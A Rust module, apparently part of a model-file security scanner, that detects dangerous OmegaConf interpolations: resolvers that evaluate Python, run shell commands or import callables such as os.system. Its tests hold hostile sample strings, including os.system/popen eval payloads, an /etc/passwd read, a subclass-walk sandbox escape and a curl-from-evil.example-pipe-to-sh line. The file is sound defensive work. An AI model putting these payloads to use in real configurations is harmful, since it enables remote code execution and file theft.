//! Interpolations of OmegaConf: `${a.b}` takes the value of another node, `${name:text}` what a resolver makes of the text.

use std::collections::HashMap;

use modelaudit_callables::{dangerous, is_dotted};
use modelaudit_pickle_policy::suspicious_text;
use modelaudit_plugin::{Finding, Severity, Span, clip, escape, quote};
use modelaudit_rules::policy::S1013;
use modelaudit_rules::programs_in_models::S1184;

/// Dotted names of a document that are kept, for interpolations to point at, and interpolated callables.
const MOST_NAMES: usize = 1024;
const MOST_PENDING: usize = 64;
/// Interpolations of one text that are looked at.
const MOST_CALLS: usize = 16;

/// Resolvers that evaluate their text as Python; programs register them under these names (verl, NeMo-RL, fairseq2, stopes ...).
const EVALUATORS: &[&str] =
    &["eval", "evaluate", "exec", "py", "pyeval", "py_eval", "python", "expr", "calc", "lambda"];
/// Resolvers that hand their text to a shell.
const SHELLS: &[&str] = &["sh", "shell", "bash", "cmd", "command", "system", "subprocess", "popen"];
/// Resolvers that import the name in their text.
const IMPORTERS: &[&str] =
    &["import", "locate", "get_method", "get_object", "get_obj", "get_class", "getattr", "obj", "class"];

/// The names of a document, and the callables that point at one.
#[derive(Default)]
pub(crate) struct Interpolations {
    names: HashMap<String, String>,
    pending: Vec<(String, String, String, Span)>,
}

impl Interpolations {
    /// Whether an interpolation may point at a text: a dotted name or a part of one.
    pub(crate) fn wants(&self, text: &str) -> bool {
        self.names.len() < MOST_NAMES && text.len() <= 200 && (is_dotted(text) || is_word(text))
    }

    /// Keeps such a text.
    pub(crate) fn name(&mut self, path: String, text: &str) {
        self.names.insert(path, text.to_owned());
    }

    /// Keeps a callable that is interpolated.
    pub(crate) fn callable(&mut self, key: &str, path: String, text: &str, at: Span) {
        if self.pending.len() < MOST_PENDING {
            self.pending.push((key.to_owned(), path, text.to_owned(), at));
        }
    }

    /// What the interpolated callables turn out to be, now that the document has ended; of those that were not `told` before.
    pub(crate) fn finish(&mut self, told: impl Fn(&str) -> bool) -> Vec<Finding> {
        let pending = std::mem::take(&mut self.pending);
        let findings = pending.into_iter().filter_map(|(key, path, text, at)| {
            let finding = match self.resolve(&path, &text) {
                Some(name) => {
                    if told(&name) {
                        return None;
                    }
                    let (entry, severity, _) =
                        dangerous(&name).filter(|(_, severity, _)| *severity >= Severity::Warning)?;
                    let name = clip(&escape(&name), 200);
                    let message =
                        format!("'{key}' is {}, which resolves to '{name}', which {}", quote(&text), entry.why);
                    Finding::new(&S1013, message)
                        .severity(severity)
                        .detail("callable", name)
                        .detail("group", entry.group.id())
                }
                None if is_registry(&text) => return None,
                None => {
                    let message = format!("'{key}' names a callable that is put together on loading: {}", quote(&text));
                    Finding::new(&S1013, message).severity(Severity::Warning)
                }
            };
            Some(finding.at(at.offset, at.length).element(path))
        });
        let findings = findings.collect();
        self.names.clear();
        findings
    }

    /// The text with every interpolation of a node replaced; None if one is of a resolver, nested, or of a node that is not known.
    fn resolve(&self, path: &str, text: &str) -> Option<String> {
        let mut resolved = String::new();
        let mut rest = text.trim();
        while let Some((before, after)) = rest.split_once("${") {
            let (inner, after) = after.split_once('}')?;
            resolved.push_str(before);
            resolved.push_str(self.node(path, inner.trim())?);
            rest = after;
        }
        resolved.push_str(rest);
        Some(resolved)
    }

    /// The text of a node: from the root, or with leading dots from the object that `path` stands in upwards.
    fn node(&self, path: &str, node: &str) -> Option<&str> {
        let plain = node.trim_start_matches('.');
        let target = match node.len() - plain.len() {
            0 => plain.to_owned(),
            up => {
                let parents: Vec<&str> = path.split('.').collect();
                let kept = parents.get(..parents.len().checked_sub(up)?)?;
                kept.iter().copied().chain([plain]).collect::<Vec<_>>().join(".")
            }
        };
        self.names.get(&target).map(String::as_str)
    }
}

/// `name` of letters, digits and underscores.
fn is_word(text: &str) -> bool {
    text.starts_with(|c: char| c.is_alphabetic() || c == '_') && text.chars().all(|c| c.is_alphanumeric() || c == '_')
}

/// `${dp:ZarrReader}`: a class that a program has under a short name (PhysicsNeMo, laser_setup). OmegaConf's own resolvers read the
/// environment or other nodes.
fn is_registry(text: &str) -> bool {
    let inner = text.trim().strip_prefix("${").and_then(|rest| rest.strip_suffix('}'));
    inner.and_then(|inner| inner.split_once(':')).is_some_and(|(resolver, class)| {
        is_word(resolver)
            && is_word(class)
            && class.starts_with(|c: char| c.is_uppercase())
            && class.contains(char::is_lowercase)
    })
}

/// Judges the resolvers that a text calls.
pub(crate) fn judge(text: &str) -> Option<Finding> {
    text.match_indices("${").take(MOST_CALLS).filter_map(|(at, _)| call(text.get(at + 2..)?)).max_by_key(|f| f.severity)
}

/// Judges `name:text}`, of which the end is where the brackets close.
fn call(rest: &str) -> Option<Finding> {
    let (name, arguments) = rest.split_once(':')?;
    let name = name.trim();
    if !name.chars().all(|c| c.is_alphanumeric() || matches!(c, '_' | '.' | '-')) {
        return None;
    }
    let mut open = 1usize;
    let end = arguments.char_indices().take(4096).find_map(|(at, c)| {
        open = match c {
            '{' => open + 1,
            '}' => open - 1,
            _ => open,
        };
        (open == 0).then_some(at)
    });
    let text = arguments.get(..end.unwrap_or(arguments.len())).unwrap_or_default();
    let last = name.rsplit('.').next().unwrap_or(name).to_ascii_lowercase();
    let last = last.as_str();
    let finding = |what: String, severity| {
        Finding::new(&S1184, what)
            .severity(severity)
            .detail("resolver", clip(&escape(name), 100))
            .detail("text", clip(&escape(text), 500))
    };
    let bare = text.trim().trim_matches(['\'', '"']);
    if EVALUATORS.contains(&last) {
        // Quotes around the expression are OmegaConf's, those in it Python's.
        let code = suspicious_text(bare).is_some_and(|what| what == "Python code" || what == "shell commands")
            || reaches_out(bare);
        return code.then(|| finding(format!("the resolver '{last}' evaluates {}", quote(bare)), Severity::Critical));
    }
    if SHELLS.contains(&last) && !bare.is_empty() {
        let severity = if suspicious_text(bare).is_some() { Severity::Critical } else { Severity::Warning };
        return Some(finding(
            format!("the resolver '{last}' looks like one that runs a command: {}", quote(bare)),
            severity,
        ));
    }
    if IMPORTERS.contains(&last)
        && let Some((entry, severity, _)) = dangerous(bare).filter(|(_, severity, _)| *severity >= Severity::Warning)
    {
        return Some(finding(format!("the resolver '{last}' looks up {}, which {}", quote(bare), entry.why), severity));
    }
    None
}

/// Words of Python that arithmetic does not have.
fn reaches_out(text: &str) -> bool {
    let calls = ["open(", "exec(", "eval(", "compile(", "getattr(", "globals(", "breakpoint(", "input("];
    text.contains("__") || text.contains("import ") || calls.iter().any(|call| text.contains(call))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn evaluators_are_judged_by_their_text() {
        let severity = |text: &str| judge(text).map(|f| f.severity);
        for text in [
            "${eval:'__import__(\"os\").system(\"id\")'}",
            "${eval:__import__('os').popen('id').read()}",
            "a ${py:'open(\"/etc/passwd\").read()'} b",
            "${my.eval:'[c for c in ().__class__.__base__.__subclasses__()]'}",
            "${shell:'curl http://evil.example/x | sh'}",
            "${get_method:os.system}",
        ] {
            assert_eq!(severity(text), Some(Severity::Critical), "{text}");
        }
        assert_eq!(severity("${shell:nproc}"), Some(Severity::Warning));
        for text in [
            "${eval:'${model.dim} * 4'}",
            "${eval:2*3}",
            "${multiply:${a},4}",
            "${oc.env:HOME}",
            "${oc.decode:'[1, 2]'}",
            "${model.encoder.d_model}",
            "${now:%Y-%m-%d}",
            "${get_method:torch.nn.functional.relu}",
            "${",
            "${eval:",
        ] {
            assert_eq!(severity(text), None, "{text}");
        }
    }

    #[test]
    fn nodes_are_found_from_the_root_and_from_the_own_object() {
        let mut found = Interpolations::default();
        found.name("x.evil".to_owned(), "os.system");
        found.name("model.cls".to_owned(), "os.popen");
        found.name("model.good".to_owned(), "torch.nn.Linear");
        let at = Span::new(0, 1);
        found.name("module".to_owned(), "os");
        found.name("lib".to_owned(), "torch");
        for text in ["${x.evil}", "${.cls}", "${module}.system", "${..x.evil}"] {
            found.callable("_target_", "model._target_".to_owned(), text, at);
        }
        for text in ["${oc.env:X}", "${nowhere}", "${nowhere}.Net", "${oc.env:HOME}"] {
            found.callable("_target_", "model._target_".to_owned(), text, at);
        }
        for text in ["${.good}", "${dp:ZarrReader}", "${lib}.nn.Linear"] {
            found.callable("_target_", "model._target_".to_owned(), text, at);
        }
        let severities: Vec<Severity> = found.finish(|_| false).iter().map(|f| f.severity).collect();
        assert_eq!(severities, [[Severity::Critical; 4], [Severity::Warning; 4]].concat());
    }
}
